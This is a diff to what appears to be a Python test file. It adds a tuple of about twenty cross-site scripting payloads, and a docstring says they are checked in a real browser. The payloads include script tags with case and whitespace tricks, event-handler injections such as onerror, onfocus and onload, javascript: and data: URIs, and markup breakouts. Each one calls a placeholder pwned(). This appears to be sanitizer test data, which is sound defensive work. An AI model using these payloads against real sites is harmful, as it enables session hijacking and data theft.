@@ -31,3 +31,26 @@ PAYLOADS: Final = (
     "\u2028<script>pwned()</script>",
     "<details open ontoggle=pwned()>",
 )
+MORE: Final = (
+    "<ScRiPt>pwned()</sCrIpT>",
+    "<script\n>pwned()</script>",
+    "<script/x>pwned()</script>",
+    "<<script>pwned()//<</script>",
+    "<img src=x onerror=pwned()//",
+    "<img/src=x/onerror=pwned()>",
+    "<img src=x onerror=&#112;wned()>",
+    "<body onload=pwned()>",
+    "<input autofocus onfocus=pwned()>",
+    "<select autofocus onfocus=pwned()><option>x</select>",
+    "<video><source onerror=pwned()></video>",
+    "<audio src=x onerror=pwned()></audio>",
+    "<object data=javascript:pwned()></object>",
+    "<embed src=javascript:pwned()>",
+    "<marquee onstart=pwned()>x</marquee>",
+    "<a href='java\tscript:pwned()'>x</a>",
+    "data:text/html,<script>pwned()</script>",
+    "--></option></select><script>pwned()</script>",
+    "]]><script>pwned()</script>",
+    "${pwned()}`;pwned()//",
+)
+"""Further ones, tried in a browser alone: there what runs is seen, and not only what might."""
